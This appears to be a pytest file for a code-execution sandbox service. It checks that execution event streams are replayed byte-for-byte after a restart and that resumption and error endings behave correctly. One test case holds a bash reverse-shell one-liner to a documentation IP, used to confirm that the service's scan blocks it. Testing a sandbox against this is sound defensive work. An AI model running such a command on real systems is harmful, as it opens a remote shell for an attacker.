"""What was said of an execution is the same for who listened while it ran and for who asks after the service was
started anew, when only the store knows."""
import contextlib

import helpers
import load
import pytest
from service import Service, error_of

MANY_BYTES = ("import sys; sys.stdout.buffer.write(bytes(range(256)) * 8); sys.stdout.flush(); print('ä€', "
              "file=sys.stderr); sys.exit(3)")
INTERLEAVED = "for i in 1 2 3; do echo out$i; sleep 0.05; echo err$i >&2; sleep 0.05; done"
# what is asked for -> the type of the last event, the reason, and the code of an error
ENDS = {
    "completed": ({"language": "bash", "code": INTERLEAVED}, "result", "completed", None),
    "error, with bytes that are no text": ({"language": "python", "code": MANY_BYTES}, "result", "error", None),
    "without a word": ({"language": "bash", "code": ":"}, "result", "completed", None),
    "timeout": ({"language": "bash", "code": "echo before; sleep 8541.5", "limits": {"timeout": 1}}, "result",
                "timeout", None),
    "killed": ({"language": "bash", "code": "echo before; sleep 8542.5"}, "result", "killed", None),
    "its launcher died": ({"language": "bash", "code": "echo before; sleep 8544.5"}, "error", "sandbox_error",
                          "sandbox_error"),
    "refused by the scan": ({"language": "bash", "code": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}, "error",
                            "policy_denied", "policy_denied"),
}


def raw(service, execution, **more):
    """The stream as it is, to the byte."""
    answer = service.request("GET", "/executions/%s/events" % execution, **more)
    assert answer.status_code == 200 and answer.headers["X-Execution-Id"] == execution, answer.text
    return answer.content


@pytest.fixture(scope="module")
def told():
    """-> {what: (id, what a live listener got)} and the service, which has been started anew since"""
    config = {**load.UNLIMITED, "agixt": {"analysis": {"block_on_detection": True}}}
    with Service(config) as s:
        seen = {}
        for what, (body, *_) in ENDS.items():
            execution = s.submit(**body)
            if what in ("killed", "its launcher died"):
                with contextlib.closing(s.events(execution)) as events:
                    assert next(e for e in events if e["type"] == "stdout")["data"] == "before\n"
            if what == "killed":
                assert s.request("DELETE", "/executions/" + execution).status_code == 202
            elif what == "its launcher died":
                for pid in s.pids("sandbox-launcher"):
                    helpers.kill_quietly(pid)
            seen[what] = execution, raw(s, execution)
        s.stop()
        s.start()
        yield s, seen


@pytest.mark.parametrize("what", ENDS)
def test_what_is_replayed_after_a_restart_is_what_was_heard_live(told, what):
    s, seen = told
    execution, live = seen[what]
    last, reason, code = ENDS[what][1:]
    events = load.events_in(live)
    assert events[-1]["type"] == last and events[-1]["result"]["reason"] == reason, events[-1]
    assert (events[-1]["error"]["code"] if code else None) == code, events[-1]
    assert raw(s, execution) == live


def test_a_stream_is_resumed_across_the_restart_where_it_was(told):
    s, seen = told
    execution, live = seen["completed"]
    messages = [m + b"\n\n" for m in live.split(b"\n\n")[:-1]]
    assert len(messages) >= 3, live
    for number in range(len(messages)):
        assert raw(s, execution, headers={"Last-Event-ID": str(number)}) == b"".join(messages[number:]), number
    for number in (len(messages), len(messages) + 7):  # who has seen all gets the result once more, with its number
        assert raw(s, execution, headers={"Last-Event-ID": str(number)}) == messages[-1]


def test_who_has_seen_all_of_a_live_one_gets_its_result_once_more_with_its_number(told):
    s, _ = told
    execution = s.submit("echo 1", "bash")
    messages = raw(s, execution).split(b"\n\n")[:-1]
    assert raw(s, execution, params={"from": len(messages) + 5}) == messages[-1] + b"\n\n"


def test_one_whose_service_died_ends_with_the_error_that_its_result_names(make_service):
    s = make_service(load.UNLIMITED)
    execution = s.submit("echo before; sleep 8543.5", "bash")
    with contextlib.closing(s.events(execution)) as events:
        assert [next(events)["type"], next(events)["type"]] == ["started", "stdout"]
    s.kill9()
    s.start()
    ended = load.events_in(raw(s, execution))
    assert [e["type"] for e in ended] == ["started", "error"], ended
    assert ended[-1]["result"] == s.execution(execution)["result"] and ended[-1]["result"]["reason"] == "sandbox_error"
    assert ended[-1]["error"]["code"] == "sandbox_error" and ended[-1]["error"]["details"]["execution_id"] == execution
    assert ended[-1]["error"]["message"] == ended[-1]["result"]["error"]["message"]


@pytest.mark.parametrize("more", [{}, {"stream": True}], ids=["waited for", "streamed"])
def test_what_could_not_be_meant_is_no_execution_and_names_none(told, more):
    s, _ = told
    answer = s.request("POST", "/execute", json={"language": "bash", "code": ":", "env": {"A B": "no name"}, **more})
    error = error_of(answer, 422, "invalid_value")
    assert "execution_id" not in error["details"] and "X-Execution-Id" not in answer.headers, (error, answer.headers)
    once = s.request("POST", "/execute", json={"language": "bash", "code": ":", "env": {"A B": "no name"}, **more},
                     headers={"Idempotency-Key": "k%d" % len(more)})
    # this one has a row, by which it may be asked for
    kept = error_of(once, 422, "invalid_value")["details"]["execution_id"]
    assert (s.execution(kept)["reason"] == "sandbox_error"
            and load.events_in(raw(s, kept))[-1]["error"]["code"] == "invalid_value")
